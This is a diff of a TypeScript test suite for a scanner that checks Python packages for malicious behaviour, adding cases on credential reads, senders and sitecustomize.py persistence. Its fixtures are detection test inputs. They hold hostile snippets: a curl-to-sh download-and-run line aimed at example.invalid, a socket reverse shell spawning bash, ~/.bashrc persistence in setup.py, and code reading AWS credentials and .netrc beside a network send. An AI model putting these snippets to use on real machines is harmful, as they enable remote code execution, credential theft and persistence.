@@ -5,9 +5,9 @@ import { inspectPath, type InspectedPackage } from '../../../../src/core/package
 import { TempDir } from './builders';
 
 /** A source tree inspected as an unpacked project directory: setup.py at its root is install-time code. */
-async function inspectTree(tmp: TempDir, files: Record<string, string>): Promise<InspectedPackage> {
+async function inspectTree(tmp: TempDir, files: Record<string, string>, project = 'fixturepkg'): Promise<InspectedPackage> {
   const root = `proj${Math.random().toString(36).slice(2, 8)}`;
-  tmp.write(`${root}/pyproject.toml`, '[project]\nname = "fixturepkg"\nversion = "1.0"\n');
+  tmp.write(`${root}/pyproject.toml`, `[project]\nname = "${project}"\nversion = "1.0"\n`);
   for (const [p, text] of Object.entries(files)) tmp.write(`${root}/${p}`, text);
   return inspectPath(`${tmp.dir}/${root}`);
 }
@@ -21,7 +21,13 @@ interface Case {
   expect: string[];
   /** Codes that must be absent. */
   absent: string[];
+  /** The distribution's name (default fixturepkg). */
+  project?: string;
 }
+
+/** Lines of ordinary code that make a module large: a client library's read and send far apart. */
+const FILLER = Array.from({ length: 420 }, (_, i) => `def helper_${i}(value):\n    return value + ${i}\n`).join('');
+const AWS_CLIENT = `import os, requests\nCREDENTIALS = os.path.expanduser('~/.aws/credentials')\n${FILLER}def call(url, body):\n    return requests.post(url, data=body)\n`;
 
 const PAYLOAD = "import os\nos.system('curl http://example.invalid | sh')\n";
 
@@ -56,6 +62,9 @@ const CASES: Case[] = [
   { title: 'referring to SSH config without sending anything is only low', files: { 'fixturepkg/x.py': "import os\nCONFIG = os.path.expanduser('~/.ssh/config')\n" }, expect: ['SPK130:low'], absent: ['SPK131'] },
   { title: 'a token from the environment plus a sender only warns (API clients do this)', files: { 'fixturepkg/x.py': "import os, requests\nrequests.post('https://example.invalid', headers={'Authorization': os.environ['GITHUB_TOKEN']})\n" }, expect: ['SPK131:medium'], absent: [] },
   { title: '.netrc plus a sender only warns (HTTP clients read it)', files: { 'fixturepkg/x.py': "import os, socket\nNETRC = '~/.netrc'\ns = socket.create_connection(('example.invalid', 80))\ns.sendall(b'x')\n" }, expect: ['SPK131:medium'], absent: [] },
+  { title: "a cloud SDK reads its own service's keys in a large module that also sends: noted only", project: 'botocore', files: { 'botocore/credentials.py': AWS_CLIENT }, expect: ['SPK131:low'], absent: [] },
+  { title: 'the same module under a name that is not that service\'s client warns', files: { 'fixturepkg/credentials.py': AWS_CLIENT }, expect: ['SPK131:medium'], absent: [] },
+  { title: 'a large HTTP client module reading .netrc and sending is noted only', files: { 'fixturepkg/client.py': `import os, socket\nNETRC = '~/.netrc'\n${FILLER}def send(data):\n    s = socket.create_connection(('example.invalid', 80))\n    s.sendall(data)\n` }, expect: ['SPK131:low'], absent: [] },
   { title: 'token environment variables', files: { 'fixturepkg/x.py': "import os\ntoken = os.environ['GITHUB_TOKEN']\nsecret = os.getenv('AWS_SECRET_ACCESS_KEY')\n" }, expect: ['SPK132:low'], absent: ['SPK131'] },
   { title: 'suspicious URLs: raw public IP, webhook with its secret, tunnel', files: { 'fixturepkg/x.py': "A = 'http://45.33.32.156:8080/x'\nB = 'https://discord.com/api/webhooks/123456/abcdef'\nC = 'https://abc123.ngrok-free.app/in'\n" }, expect: ['SPK140:medium'], absent: [] },
   { title: 'loopback, documentation IPs, an SDK base URL and docstrings are not suspicious', files: { 'fixturepkg/x.py': "'''See http://45.33.32.156/ and https://pastebin.com/raw/x for examples.'''\nA = 'http://127.0.0.1:8000'\nB = 'http://192.0.2.10/'\nC = 'https://discord.com/developers/docs'\nD = 'https://hooks.slack.com/'\n" }, expect: [], absent: ['SPK140'] },
@@ -63,6 +72,8 @@ const CASES: Case[] = [
   { title: 'pty.spawn of a shell next to a socket', files: { 'fixturepkg/x.py': "import socket, pty, os\ns = socket.create_connection(('example.invalid', 1))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/bash')\n" }, expect: ['SPK150:high'], absent: [] },
   { title: 'a socket client is not a reverse shell', files: { 'fixturepkg/x.py': "import socket\ndef ping(h):\n    s = socket.create_connection((h, 80))\n    s.sendall(b'x')\n" }, expect: [], absent: ['SPK150'] },
   { title: 'persistence: appending to ~/.bashrc from setup.py', files: { 'setup.py': "import os\nfrom setuptools import setup\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('python -m fixturepkg &\\n')\nsetup(name='x')\n" }, expect: ['SPK160:high'], absent: [] },
+  { title: "a build tool writing sitecustomize.py for its own processes is noted only (pip's isolated build env)", files: { 'fixturepkg/env.py': "import os\ndef prepare(site_dir):\n    with open(os.path.join(site_dir, 'sitecustomize.py'), 'w') as f:\n        f.write('import sys\\n')\n" }, expect: ['SPK160:low'], absent: [] },
+  { title: 'sitecustomize.py written with a download-and-run payload fails', files: { 'fixturepkg/env.py': "import os, site\ndef prepare():\n    with open(os.path.join(site.getsitepackages()[0], 'sitecustomize.py'), 'w') as f:\n        f.write('import os; os.system(\"curl http://example.invalid/x | sh\")\\n')\n" }, expect: ['SPK160:high'], absent: [] },
   { title: 'naming ~/.bashrc without writing it is not persistence', files: { 'fixturepkg/x.py': "import os\nRC = os.path.expanduser('~/.bashrc')\nprint(open(RC).read())\n" }, expect: [], absent: ['SPK160'] },
   { title: 'a detached process (start_new_session)', files: { 'fixturepkg/x.py': "import subprocess\nsubprocess.Popen(['python', '-m', 'agent'], start_new_session=True)\n" }, expect: ['SPK170:low'], absent: [] },
   { title: 'a detached process at install time fails', files: { 'setup.py': "import subprocess\nfrom setuptools import setup\nsubprocess.Popen(['python', '-m', 'agent'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\nsetup(name='x')\n" }, expect: ['SPK170:high'], absent: [] },
@@ -86,7 +97,7 @@ describe('inspect heuristics: each with a positive and a negative case', () => {
 
   for (const c of CASES) {
     it(c.title, async () => {
-      const result = await inspectTree(tmp, c.files);
+      const result = await inspectTree(tmp, c.files, c.project);
       const seen = result.reasons.map((r) => `${r.code}:${r.severity}`);
       for (const want of c.expect) {
         assert.ok(want.includes(':') ? seen.includes(want) : seen.some((s) => s.startsWith(`${want}:`)), `expected ${want}, got ${seen.join(' ') || 'nothing'}`);
